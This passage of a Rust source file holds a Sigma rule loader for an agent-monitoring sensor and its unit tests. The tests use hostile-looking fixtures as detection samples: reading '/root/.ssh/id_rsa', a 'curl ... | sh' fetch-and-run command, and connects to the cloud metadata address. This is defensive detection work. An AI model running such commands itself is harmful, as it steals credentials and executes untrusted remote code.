        return parse(text, path).map(|r| Loaded::Rule(Box::new(r)));
    }
    check_documents(text, path)?;
    let line_of = |key: &str| -> usize {
        text.lines()
            .position(|l| l.trim_start().starts_with(key))
            .map_or(1, |i| i + 1)
    };
    let yaml: Yaml = serde_norway::from_str(text).map_err(|e| RuleError::At {
        path: path.to_owned(),
        line: e.location().map_or(1, |l| l.line()),
        message: format!("not YAML: {e}"),
    })?;
    let Some(top) = yaml.as_mapping() else {
        return Err(RuleError::At {
            path: path.to_owned(),
            line: 1,
            message: "a rule is a mapping".to_owned(),
        });
    };
    let info = info_of(top, path, &line_of)?;
    super::correlation::parse(top, info, path, &line_of).map(|c| Loaded::Correlation(Box::new(c)))
}

/// Several documents: sigma-rust reads one; the rest would be ignored.
fn check_documents(text: &str, path: &Path) -> Result<(), RuleError> {
    let documents = text
        .lines()
        .enumerate()
        .filter(|(_, l)| l.trim_end() == "---")
        .map(|(i, _)| i + 1)
        .collect::<Vec<_>>();
    if let Some(&line) = documents.iter().find(|&&l| {
        text.lines()
            .take(l - 1)
            .any(|x| !x.trim().is_empty() && !x.trim_start().starts_with('#'))
    }) {
        return Err(RuleError::At {
            path: path.to_owned(),
            line,
            message: "several YAML documents in one file: one rule per file".to_owned(),
        });
    }
    Ok(())
}

/// The id, title, level and tags of a rule's YAML.
fn info_of(
    top: &serde_norway::Mapping,
    path: &Path,
    line_of: &dyn Fn(&str) -> usize,
) -> Result<RuleInfo, RuleError> {
    let at = |key: &str, message: String| RuleError::At {
        path: path.to_owned(),
        line: line_of(key).max(1),
        message,
    };
    let title = top
        .get("title")
        .and_then(Yaml::as_str)
        .ok_or_else(|| at("title:", "a rule has a title".to_owned()))?
        .to_owned();
    let level = match top.get("level").and_then(Yaml::as_str) {
        None | Some("medium") => "medium",
        Some("informational") => "informational",
        Some("low") => "low",
        Some("high") => "high",
        Some("critical") => "critical",
        Some(other) => return Err(at("level:", format!("unknown level {other:?}"))),
    };
    let id = top
        .get("id")
        .and_then(Yaml::as_str)
        .map(str::to_owned)
        .unwrap_or_else(|| {
            path.file_stem()
                .map(|s| s.to_string_lossy().into_owned())
                .unwrap_or_default()
        });
    let tags = top
        .get("tags")
        .and_then(Yaml::as_sequence)
        .map(|t| {
            t.iter()
                .filter_map(Yaml::as_str)
                .map(str::to_owned)
                .collect()
        })
        .unwrap_or_default();
    Ok(RuleInfo {
        id,
        title,
        level,
        tags,
        file: path.to_string_lossy().into_owned(),
    })
}

/// Parses and checks one rule's text (`path` names it in errors).
pub fn parse(text: &str, path: &Path) -> Result<LoadedRule, RuleError> {
    let at = |line: usize, message: String| RuleError::At {
        path: path.to_owned(),
        line: line.max(1),
        message,
    };
    let line_of = |key: &str| -> usize {
        text.lines()
            .position(|l| l.trim_start().starts_with(key))
            .map_or(1, |i| i + 1)
    };
    check_documents(text, path)?;
    let yaml: Yaml = serde_norway::from_str(text).map_err(|e| {
        at(
            e.location().map_or(1, |l| l.line()),
            format!("not YAML: {e}"),
        )
    })?;
    let Yaml::Mapping(top) = &yaml else {
        return Err(at(1, "a rule is a mapping".to_owned()));
    };
    let logsource = top.get("logsource");
    let product = logsource
        .and_then(|l| l.get("product"))
        .and_then(Yaml::as_str);
    if product != Some(PRODUCT) {
        return Err(at(
            line_of("logsource:"),
            format!("logsource.product must be {PRODUCT:?}"),
        ));
    }
    let kinds = match logsource.and_then(|l| l.get("category")) {
        None => Vec::new(),
        Some(Yaml::String(c)) => {
            let kinds = kinds_of(c);
            if kinds.is_empty() {
                return Err(at(
                    line_of("category:"),
                    format!("unknown logsource.category {c:?} (see docs/detection.md)"),
                ));
            }
            kinds
        }
        Some(_) => {
            return Err(at(
                line_of("category:"),
                "logsource.category is a string".to_owned(),
            ));
        }
    };
    if let Some(detection) = top.get("detection") {
        check_values(detection, None).map_err(|message| at(line_of("detection:"), message))?;
    }
    let rule: sigma_rust::Rule = serde_norway::from_str(text).map_err(|e| {
        // sigma-rust's own checks (condition, modifiers) come without a
        // place: the detection is where they are.
        let line = e
            .location()
            .map(|l| l.line())
            .filter(|&l| l > 1)
            .unwrap_or_else(|| line_of("detection:"));
        at(line, format!("not a Sigma rule: {e}"))
    })?;
    let info = info_of(top, path, &line_of)?;
    let name = top.get("name").and_then(Yaml::as_str).map(str::to_owned);
    let first_seen = super::first_seen::parse(top, path, &line_of)?;
    let fields = top.get("detection").and_then(detection_fields);
    let needs_run = top.get("detection").is_some_and(needs_run);
    Ok(LoadedRule {
        info,
        name,
        kinds,
        quiet: false,
        first_seen,
        fields,
        needs_run,
        rule,
    })
}

/// Members every run's `run` object has: `run.<one of these>` is absent
/// exactly when the event is outside any run.
const RUN_MEMBERS: &[&str] = &[
    "id",
    "agent",
    "principal",
    "root_id",
    "depth",
    "attribution",
];

/// Whether a detection cannot match an event outside any run: its
/// condition's top level (outside parentheses) is selections joined by
/// `and` only (no `or`, no `N of`), and one of them, not negated, is a
/// mapping (its entries all hold) with `run.<member>|exists: true` for a
/// member of [`RUN_MEMBERS`]. Anything else, or a condition this does not
/// read, is `false`: the rule then sees every event, as before.
fn needs_run(detection: &Yaml) -> bool {
    let Some(Yaml::String(condition)) = detection.get("condition") else {
        return false;
    };
    let spaced = condition.replace('(', " ( ").replace(')', " ) ");
    let mut depth = 0usize;
    let mut negated = false;
    let mut required = Vec::new();
    for token in spaced.split_whitespace() {
        match token {
            "(" => depth += 1,
            ")" => depth = depth.saturating_sub(1),
            _ if depth > 0 => {}
            "and" => negated = false,
            "not" => negated = true,
            "or" | "of" | "all" | "them" => return false,
            name if detection.get(name).is_some() && name != "condition" => {
                if !negated {
                    required.push(name);
                }
                negated = false;
            }
            _ => return false,
        }
    }
    required.iter().any(|name| {
        detection
            .get(*name)
            .and_then(Yaml::as_mapping)
            .is_some_and(|selection| {
                selection.iter().any(|(key, value)| {
                    key.as_str()
                        .and_then(|k| k.strip_prefix("run."))
                        .and_then(|k| k.strip_suffix("|exists"))
                        .is_some_and(|member| RUN_MEMBERS.contains(&member))
                        && *value == Yaml::Bool(true)
                })
            })
    })
}

/// Bounds the detection's values: each string's length, and each `|re`
/// pattern's length and compiled size.
fn check_values(yaml: &Yaml, field: Option<&str>) -> Result<(), String> {
    match yaml {
        Yaml::Mapping(m) => m.iter().try_for_each(|(k, v)| {
            let key = k.as_str();
            check_values(v, key.or(field))
        }),
        Yaml::Sequence(items) => items.iter().try_for_each(|v| check_values(v, field)),
        Yaml::String(s) => {
            if s.len() > MAX_VALUE_LEN {
                return Err(format!("a value longer than {MAX_VALUE_LEN} bytes"));
            }
            let is_re = field.is_some_and(|f| f.split('|').skip(1).any(|m| m == "re"));
            if is_re {
                if s.chars().count() > MAX_REGEX_LEN {
                    return Err(format!(
                        "{}: a regex longer than {MAX_REGEX_LEN} characters",
                        field.unwrap_or_default()
                    ));
                }
                regex::RegexBuilder::new(s)
                    .size_limit(REGEX_SIZE_LIMIT)
                    .dfa_size_limit(REGEX_SIZE_LIMIT)
                    .nest_limit(64)
                    .build()
                    .map_err(|e| format!("{}: {e}", field.unwrap_or_default()))?;
            }
            Ok(())
        }
        Yaml::Tagged(t) => check_values(&t.value, field),
        _ => Ok(()),
    }
}

/// A shared, swappable rule set: the detection thread reads it per batch,
/// a reload replaces it whole.
#[derive(Debug, Clone, Default)]
pub struct Rules(Arc<std::sync::RwLock<Arc<RuleSet>>>);

impl Rules {
    #[must_use]
    pub fn new(set: RuleSet) -> Self {
        Self(Arc::new(std::sync::RwLock::new(Arc::new(set))))
    }

    #[must_use]
    pub fn current(&self) -> Arc<RuleSet> {
        match self.0.read() {
            Ok(g) => Arc::clone(&g),
            Err(poisoned) => Arc::clone(&poisoned.into_inner()),
        }
    }

    pub fn replace(&self, set: RuleSet) {
        let set = Arc::new(set);
        match self.0.write() {
            Ok(mut g) => *g = set,
            Err(poisoned) => *poisoned.into_inner() = set,
        }
    }
}

#[cfg(test)]
mod tests {
    use serde_json::json;

    use super::*;

    fn rule(text: &str) -> Result<LoadedRule, RuleError> {
        match parse_any(text, Path::new("t.yml"))? {
            Loaded::Rule(r) => Ok(*r),
            Loaded::Correlation(c) => panic!("a correlation: {c:?}"),
        }
    }

    fn correlation(text: &str) -> Correlation {
        match parse_any(text, Path::new("c.yml")) {
            Ok(Loaded::Correlation(c)) => *c,
            other => panic!("{other:?}"),
        }
    }

    const DENY: &str = "title: deny\nname: deny\nlogsource:\n  product: agent-sensor\n  category: policy_violation\ndetection:\n  s:\n    policy.verdict: deny\n  condition: s\n";
    const CONNECT: &str = "title: conn\nid: conn\nlogsource:\n  product: agent-sensor\n  category: network_connect\ndetection:\n  s:\n    run.agent|exists: true\n  condition: s\n";

    fn at(run: &str, secs: u64, extra: Value) -> Value {
        let mut e = json!({"kind": "x", "run": {"id": run, "agent": "a"},
                           "time": crate::event::rfc3339(std::time::UNIX_EPOCH + std::time::Duration::from_secs(1_700_000_000 + secs)).to_string(),
                           "policy": {"verdict": "deny"}});
        if let (Some(o), Value::Object(x)) = (e.as_object_mut(), extra) {
            o.extend(x);
        }
        e
    }

    #[test]
    fn event_count_fires_at_its_threshold_within_its_window_per_group() {
        let c = correlation(
            "title: many denials\nid: c1\nlevel: high\ncorrelation:\n  type: event_count\n  rules: [deny]\n  group-by: [run.id]\n  timespan: 1m\n  condition:\n    gte: 3\n",
        );
        let set = RuleSet::with_correlations(vec![rule(DENY).unwrap()], vec![c]).unwrap();
        let mut st = Correlator::default();
        let mut fire = |run: &str, t: u64| -> Vec<String> {
            set.evaluate(&mut st, Kind::PolicyViolation, &at(run, t, json!({})))
                .iter()
                .map(|i| i.id.clone())
                .collect()
        };
        // The base rule is only counted (Sigma's default: generate false).
        assert!(fire("r1", 0).is_empty());
        assert!(fire("r2", 1).is_empty());
        assert!(fire("r1", 10).is_empty());
        assert_eq!(fire("r1", 20), ["c1"]);
        // Counting starts again; a window of 60 s slides.
        assert!(fire("r1", 30).is_empty());
        assert!(fire("r1", 40).is_empty());
        assert!(
            fire("r2", 100).is_empty(),
            "r2's first is out of the window"
        );
        assert!(fire("r2", 110).is_empty());
        assert_eq!(fire("r2", 120), ["c1"]);
    }

    #[test]
    fn value_count_counts_distinct_values_and_generate_keeps_the_base_rule() {
        let c = correlation(
            "title: many hosts\nid: c2\ngenerate: true\ncorrelation:\n  type: value_count\n  rules: conn\n  group-by:\n    - run.id\n  timespan: 5m\n  condition:\n    gt: 2\n    field: network.dst_ip\n",
        );
        let set = RuleSet::with_correlations(vec![rule(CONNECT).unwrap()], vec![c]).unwrap();
        let mut st = Correlator::default();
        let mut fire = |ip: &str, t: u64| -> Vec<String> {
            set.evaluate(
                &mut st,
                Kind::NetworkConnect,
                &at("r", t, json!({"network": {"dst_ip": ip}})),
            )
            .iter()
            .map(|i| i.id.clone())
            .collect()
        };
        assert_eq!(fire("10.0.0.1", 0), ["conn"]);
        assert_eq!(fire("10.0.0.1", 1), ["conn"]);
        assert_eq!(fire("10.0.0.2", 2), ["conn"]);
        assert_eq!(fire("10.0.0.3", 3), ["conn", "c2"]);
    }

    #[test]
    fn correlations_are_checked() {
        let unknown = correlation(
            "title: x\ncorrelation:\n  type: event_count\n  rules: [nope]\n  timespan: 1m\n  condition: {gte: 2}\n",
        );
        assert!(matches!(
            RuleSet::with_correlations(vec![rule(DENY).unwrap()], vec![unknown]),
            Err(RuleError::At { line: 4, .. })
        ));
        for (text, line) in [
            (
                "title: x\ncorrelation:\n  type: event_count\n  rules: [a]\n  timespan: 1w\n  condition: {gte: 2}\n",
                5,
            ),
            (
                "title: x\ncorrelation:\n  type: event_count\n  rules: [a]\n  timespan: 1m\n  condition: {lt: 2}\n",
                6,
            ),
            (
                "title: x\ncorrelation:\n  type: value_count\n  rules: [a]\n  timespan: 1m\n  condition: {gte: 2}\n",
                6,
            ),
            (
                "title: x\ncorrelation:\n  type: event_count\n  rules: [a]\n  timespan: 1m\n  condition: {gte: 0}\n",
                6,
            ),
        ] {
            match parse_any(text, Path::new("c.yml")) {
                Err(RuleError::At { line: l, .. }) => assert_eq!(l, line, "{text}"),
                other => panic!("{text}: {other:?}"),
            }
        }
    }

    const SSH: &str = "title: ssh\nid: r-ssh\nlevel: high\ntags: [attack.t1552]\nlogsource:\n  product: agent-sensor\n  category: process_creation\ndetection:\n  run:\n    run.agent|exists: true\n  sel:\n    process.argv|contains: '/.ssh/id_'\n  condition: run and sel\n";

    fn exec(argv: &[&str], run: bool) -> Value {
        json!({"kind": "process.exec", "seq": 7,
               "run": if run { json!({"id": "r1", "agent": "a", "depth": 0}) } else { Value::Null },
               "process": {"exe": "/usr/bin/cat", "argv": argv, "key": "k"}})
    }

    #[test]
    fn a_rule_matches_argv_items_and_the_run() {
        let set = RuleSet::of(vec![rule(SSH).unwrap()]);
        assert_eq!(set.rules()[0].info.level, "high");
        assert_eq!(set.rules()[0].info.tags, ["attack.t1552"]);
        let hit = set.matches(
            Kind::ProcessExec,
            &exec(&["cat", "/root/.ssh/id_rsa"], true),
        );
        assert_eq!(hit.len(), 1);
        assert_eq!(hit[0].info.id, "r-ssh");
        // Outside a run, another kind, another file: nothing.
        assert!(
            set.matches(
                Kind::ProcessExec,
                &exec(&["cat", "/root/.ssh/id_rsa"], false)
            )
            .is_empty()
        );
        assert!(
            set.matches(
                Kind::ProcessExit,
                &exec(&["cat", "/root/.ssh/id_rsa"], true)
            )
            .is_empty()
        );
        assert!(
            set.matches(Kind::ProcessExec, &exec(&["cat", "/etc/hosts"], true))
                .is_empty()
        );
    }

    #[test]
    fn numbers_compare_and_a_rule_without_category_sees_every_kind_but_detections() {
        let deep = "title: deep\nlogsource:\n  product: agent-sensor\ndetection:\n  sel:\n    run.depth|gt: 3\n  condition: sel\n";
        let set = RuleSet::of(vec![rule(deep).unwrap()]);
        let at =
            |d: u32| json!({"kind": "run.start", "run": {"id": "r", "agent": "a", "depth": d}});
        assert_eq!(set.matches(Kind::RunStart, &at(4)).len(), 1);
        assert!(set.matches(Kind::RunStart, &at(3)).is_empty());
        assert_eq!(set.matches(Kind::ProcessExec, &at(5)).len(), 1);
        assert!(set.matches(Kind::Detection, &at(5)).is_empty());
        assert_eq!(set.rules()[0].info.id, "t");
    }

    #[test]
    fn bad_rules_are_refused_with_their_line() {
        let cases = [
            (
                "title: x\nlogsource:\n  product: windows\ndetection:\n  s:\n    a: 1\n  condition: s\n",
                2,
                "product",
            ),
            (
                "title: x\nlogsource:\n  product: agent-sensor\n  category: nope\ndetection:\n  s:\n    a: 1\n  condition: s\n",
                4,
                "category",
            ),
            (
                "title: x\nlogsource:\n  product: agent-sensor\ndetection:\n  s:\n    a: 1\n  condition: s and t\n",
                4,
                "undefined",
            ),
            (
                "title: x\nlogsource:\n  product: agent-sensor\ndetection:\n  s:\n    a|re: '(x'\n  condition: s\n",
                4,
                "unclosed",
            ),
            (
                "title: x\nlogsource:\n  product: agent-sensor\ndetection:\n  s:\n    a: [1\n  condition: s\n",
                7,
                "YAML",
            ),
            (
                "title: x\nlogsource:\n  product: agent-sensor\ncorrelation:\n  type: temporal\n",
                5,
                "correlation",
            ),
            (
                "title: x\nlogsource:\n  product: agent-sensor\ndetection:\n  s:\n    a: 1\n  condition: s\n---\ntitle: y\n",
                8,
                "several",
            ),
            (
                "title: x\nlevel: severe\nlogsource:\n  product: agent-sensor\ndetection:\n  s:\n    a: 1\n  condition: s\n",
                2,
                "level",
            ),
        ];
        for (text, line, what) in cases {
            match rule(text) {
                Err(RuleError::At {
                    line: l, message, ..
                }) => {
                    assert_eq!(l, line, "{message}");
                    assert!(message.contains(what), "{message}");
                }
                other => panic!("{text}: {other:?}"),
            }
        }
    }

    #[test]
    fn regexes_are_bounded() {
        let huge = format!(
            "title: x\nlogsource:\n  product: agent-sensor\ndetection:\n  s:\n    a|re: '{}'\n  condition: s\n",
            "a{1000}{1000}"
        );
        assert!(matches!(rule(&huge), Err(RuleError::At { .. })));
        let long = format!(
            "title: x\nlogsource:\n  product: agent-sensor\ndetection:\n  s:\n    a|re: '{}'\n  condition: s\n",
            "a".repeat(MAX_REGEX_LEN + 1)
        );
        assert!(matches!(rule(&long), Err(RuleError::At { .. })));
    }

    #[test]
    fn hostile_events_do_not_panic() {
        let set = RuleSet::of(vec![rule(SSH).unwrap()]);
        let long: Vec<String> = (0..10_000).map(|i| format!("/.ssh/{i}")).collect();
        let e = json!({"kind": "process.exec", "run": {"agent": "a"},
                       "process": {"argv": long, "exe": [1, {"x": 2}], "key": null}});
        let _ = set.matches(Kind::ProcessExec, &e);
        let _ = set.matches(Kind::ProcessExec, &json!([1, 2]));
        let _ = set.matches(Kind::ProcessExec, &json!("x"));
    }

    /// A rule sees the same event projected to its fields as whole: over
    /// the shipped pack and every golden event, and over hostile shapes
    /// (dotted keys, arrays of objects, nulls, nested objects, fieldref).
    #[test]
    fn a_projected_event_matches_as_the_whole_event() {
        let root = Path::new(env!("CARGO_MANIFEST_DIR"));
        let mut rules: Vec<LoadedRule> = std::fs::read_dir(root.join("../rules/agent"))
            .unwrap()
            .filter_map(|e| {
                let path = e.ok()?.path();
                match load_file(&path).ok()? {
                    Loaded::Rule(r) => Some(*r),
                    Loaded::Correlation(_) => None,
                }
            })
            .collect();
        for extra in [
            "title: t\nlogsource:\n  product: agent-sensor\ndetection:\n  s:\n    a.b: x\n    c|exists: false\n    n: null\n  condition: s\n",
            "title: t\nlogsource:\n  product: agent-sensor\ndetection:\n  s:\n    - a.b|fieldref: c.d\n    - deep.x.y|startswith: v\n  condition: s\n",
            "title: t\nlogsource:\n  product: agent-sensor\ndetection:\n  s:\n    obj|exists: true\n  condition: s\n",
            "title: t\nlogsource:\n  product: agent-sensor\ndetection:\n  k:\n    - needle\n  condition: k\n",
        ] {
            rules.push(rule(extra).unwrap());
        }
        assert!(
            rules.last().unwrap().fields.is_none(),
            "a keyword selection reads every value"
        );
        assert_eq!(
            rules[rules.len() - 3].fields.as_deref(),
            Some(&["a.b".to_owned(), "c.d".to_owned(), "deep.x.y".to_owned()][..]),
            "fieldref values are fields"
        );
        let text =
            std::fs::read_to_string(root.join("tests/golden/expected/events.jsonl")).unwrap();
        let mut events: Vec<Value> = text
            .lines()
            .filter_map(|l| serde_json::from_str(l).ok())
            .collect();
        assert!(events.len() > 100);
        events.extend([
            json!({"a.b": "x", "a": {"b": "y"}, "n": null}),
            json!({"a.b": [{"o": 1}], "a": {"b": "x"}, "n": null}),
            json!({"a": {"b": "x"}, "c": {"d": "x"}, "n": 1}),
            json!({"a": [{"b": "x"}], "c": null}),
            json!({"deep": {"x.y": "vv", "x": {"y": "no"}}}),
            json!({"deep": {"x": {"y": ["v1", 2, true]}}}),
            json!({"obj": {"k": 1}, "a": {"b": "x"}}),
            json!({"k": ["needle"], "a": {"b": "x"}}),
            json!({"a": {"b": "x"}, "c": {"d": "x"}, "n": null, "big": 18446744073709551615u64, "f": 1.5}),
        ]);
        let mut compared = 0;
        for e in &events {
            let whole = sigma_rust::Event::try_from(flatten(e)).unwrap();
            for r in &rules {
                let Some(fields) = &r.fields else { continue };
                let want = r.rule.is_match(&whole);
                match project(e, fields) {
                    Some(p) => assert_eq!(r.rule.is_match(&p), want, "{} on {e}", r.info.title),
                    None => assert!(
                        fields
                            .iter()
                            .any(|f| matches!(lookup(e.as_object().unwrap(), f), Found::Object))
                    ),
                }
                compared += 1;
            }
        }
        assert!(compared > 1000, "{compared}");
    }

    /// The pruned JSON form fires exactly what the whole one fires, rules
    /// and correlations, over the golden events with the shipped pack.
    #[test]
    fn the_pruned_json_form_fires_as_the_whole() {
        let root = Path::new(env!("CARGO_MANIFEST_DIR"));
        let set = RuleSet::load(&[root.join("../rules/agent")]).unwrap();
        let text =
            std::fs::read_to_string(root.join("tests/golden/expected/events.jsonl")).unwrap();
        let (mut whole_state, mut pruned_state) = (Correlator::default(), Correlator::default());
        let mut fired = 0;
        let mut smaller = 0;
        for _ in 0..30 {
            for line in text.lines() {
                let v: Value = serde_json::from_str(line).unwrap();
                let Some(kind) = v["kind"].as_str().and_then(Kind::parse) else {
                    continue;
                };
                let pruned = set.json_form(kind, &v).unwrap();
                if pruned != v {
                    smaller += 1;
                }
                let ids =
                    |hits: Vec<&RuleInfo>| hits.iter().map(|r| r.id.clone()).collect::<Vec<_>>();
                let want = ids(set.evaluate(&mut whole_state, kind, &v));
                let got = ids(set.evaluate(&mut pruned_state, kind, &pruned));
                assert_eq!(got, want, "{line}");
                fired += want.len();
            }
        }
        assert!(fired > 100 && smaller > 100, "{fired} {smaller}");
        // Dotted keys and maps: a member is kept for every way to reach a name.
        let v = json!({"run": {"labels": {"x.y": "v", "x": {"y": "w"}}, "id": "r"}, "other": 1});
        let p = pruned_value(&v, &["run.labels.x.y".to_owned()]).unwrap();
        assert_eq!(p, json!({"run": {"labels": {"x.y": "v", "x": {"y": "w"}}}}));
    }

    /// A `first_seen` rule keyed on fields its detection does not read:
    /// the pruned JSON form still carries them, so it fires once per value
    /// as on the whole event.
    #[test]
    fn a_first_seen_rule_keys_on_its_own_fields_in_the_pruned_form() {
        let dir = tempfile::tempdir().unwrap();
        std::fs::write(
            dir.path().join("port.yml"),
            "title: t\nid: 11111111-2222-4333-8444-555555555555\nstatus: test\n\
             logsource: {product: agent-sensor, category: network_connection}\n\
             detection: {selection: {run.agent|exists: true}, condition: selection}\n\
             first_seen: {fields: [network.dst_port]}\nlevel: low\n",
        )
        .unwrap();
        let set = RuleSet::load(&[dir.path().to_path_buf()]).unwrap();
        let mut state = Correlator::default();
        let mut fired = Vec::new();
        for port in [80, 80, 443] {
            let v = json!({"kind": "network.connect", "time": "2026-12-05T00:00:00Z",
                           "run": {"agent": "a"}, "network": {"dst_port": port}});
            let pruned = set.json_form(Kind::NetworkConnect, &v).unwrap();
            assert_eq!(pruned["network"]["dst_port"], port, "{pruned}");
            fired.push(
                set.evaluate(&mut state, Kind::NetworkConnect, &pruned)
                    .len(),
            );
        }
        assert_eq!(fired, [1, 0, 1]);
    }

    /// Which conditions let the daemon skip a rule outside any run.
    #[test]
    fn a_rule_needs_a_run_only_when_its_condition_requires_the_run_selection() {
        let detection = |condition: &str, r: &str| -> Yaml {
            serde_norway::from_str(&format!(
                "r:\n  {r}\nx:\n  process.exe: /bin/sh\ny:\n  network.dst_port: 80\ncondition: {condition}\n"
            ))
            .unwrap()
        };
        let exists = "run.agent|exists: true";
        for condition in [
            "r",
            "r and x",
            "x and r",
            "r and (x or y)",
            "not x and r",
            "(x or y) and r",
        ] {
            assert!(needs_run(&detection(condition, exists)), "{condition}");
        }
        for condition in [
            "r or x",
            "r and x or y",
            "not r and x",
            "not r",
            "1 of r*",
            "all of them",
            "x and y",
            "(r and x)",
        ] {
            assert!(!needs_run(&detection(condition, exists)), "{condition}");
        }
        // Only `exists: true` of a member every run has.
        for r in [
            "run.agent|exists: false",
            "run.tool_call.id|exists: true",
            "run.agent: null",
            "run.agent|startswith: a",
        ] {
            assert!(!needs_run(&detection("r and x", r)), "{r}");
        }
        // A list of mappings is any of them: not required as a whole.
        let listed: Yaml = serde_norway::from_str(
            "r:\n  - run.agent|exists: true\n  - process.exe: /bin/sh\ncondition: r\n",
        )
        .unwrap();
        assert!(!needs_run(&listed));
        // The shipped pack: every rule whose selection asks for the run.
        let dir = Path::new(env!("CARGO_MANIFEST_DIR")).join("../rules/agent");
        let set = RuleSet::load(&[dir]).unwrap();
        let needing: Vec<&str> = set
            .rules()
            .iter()
            .filter(|r| r.needs_run)
            .map(|r| r.info.id.as_str())
            .collect();
        assert!(needing.len() >= 12, "{needing:?}");
    }

    #[test]
    fn the_shipped_pack_loads() {
        let dir = Path::new(env!("CARGO_MANIFEST_DIR")).join("../rules/agent");
        let set = RuleSet::load(&[dir]).unwrap();
        assert!(set.len() >= 9, "{}", set.len());
        let metadata = json!({"kind": "network.connect", "run": {"id": "r", "agent": "a"},
                              "network": {"dst_ip": "169.254.169.254", "dst_port": 80}});
        let mut state = Correlator::default();
        // (The pack's "any IP connect" rule only counts for a correlation.)
        let hit: Vec<&str> = set
            .evaluate(&mut state, Kind::NetworkConnect, &metadata)
            .iter()
            .map(|r| r.title.as_str())
            .collect();
        // The agent's first connect to the host: the first-seen rule too.
        assert_eq!(
            hit,
            [
                "Agent run connects to a cloud metadata service",
                "Agent connects to a host never seen for its agent on this machine"
            ]
        );
        let hit: Vec<&str> = set
            .evaluate(&mut state, Kind::NetworkConnect, &metadata)
            .iter()
            .map(|r| r.title.as_str())
            .collect();
        assert_eq!(hit, ["Agent run connects to a cloud metadata service"]);
        // The 21st distinct host of a run within 5 minutes (each the first
        // of agent b: the first-seen rule fires on each).
        let never = "4c8e2a6f-9b1d-4f3e-a7c5-1d6b8e3f2a14";
        let mut last = Vec::new();
        for i in 0..21 {
            let e = json!({"kind": "network.connect", "run": {"id": "r2", "agent": "b"},
                           "time": "2026-12-05T05:00:00Z",
                           "network": {"dst_ip": format!("10.0.0.{i}"), "dst_port": 443}});
            last = set
                .evaluate(&mut state, Kind::NetworkConnect, &e)
                .iter()
                .map(|r| r.id.clone())
                .collect();
            if i < 20 {
                assert_eq!(last, [never], "{i}");
            }
        }
        assert_eq!(last, [never, "6b2d8f4a-1e7c-4a9b-b3d6-2c5e8a1f7d11"]);
        let curl = json!({"kind": "process.exec", "run": {"id": "r", "agent": "a"},
                          "process": {"exe": "/usr/bin/bash", "argv": ["sh", "-c", "curl -s http://x/i.sh | sh"]}});
        let hit: Vec<&str> = set
            .matches(Kind::ProcessExec, &curl)
            .iter()
            .map(|r| r.info.id.as_str())
            .collect();
        assert_eq!(hit, ["9a1e3c7b-5d2f-4e8a-b6c4-2e7f1d3a8c03"]);
        // A file changed during the run, then run: a bool that must be true.
        let modified = |m: Value| {
            json!({"kind": "process.exec", "run": {"id": "r", "agent": "a"},
                   "process": {"exe": "/usr/local/bin/x", "argv": ["x"]},
                   "exec": {"filename": "x", "result": "ok", "modified_in_run": m}})
        };
        let ids = |e: &Value| -> Vec<String> {
            set.matches(Kind::ProcessExec, e)
                .iter()
                .map(|r| r.info.id.clone())
                .collect()
        };
        assert_eq!(
            ids(&modified(json!(true))),
            ["3f7b1d9e-6c2a-4e8f-b5d1-9a4c7e2f6b18"]
        );
        assert!(ids(&modified(json!(false))).is_empty());
        assert!(ids(&modified(Value::Null)).is_empty());
        let benign = json!({"kind": "process.exec", "run": {"id": "r", "agent": "a"},
                            "process": {"exe": "/usr/bin/bash", "argv": ["sh", "-c", "curl -o x http://x/ && cat x"]}});
        assert!(set.matches(Kind::ProcessExec, &benign).is_empty());
    }
}
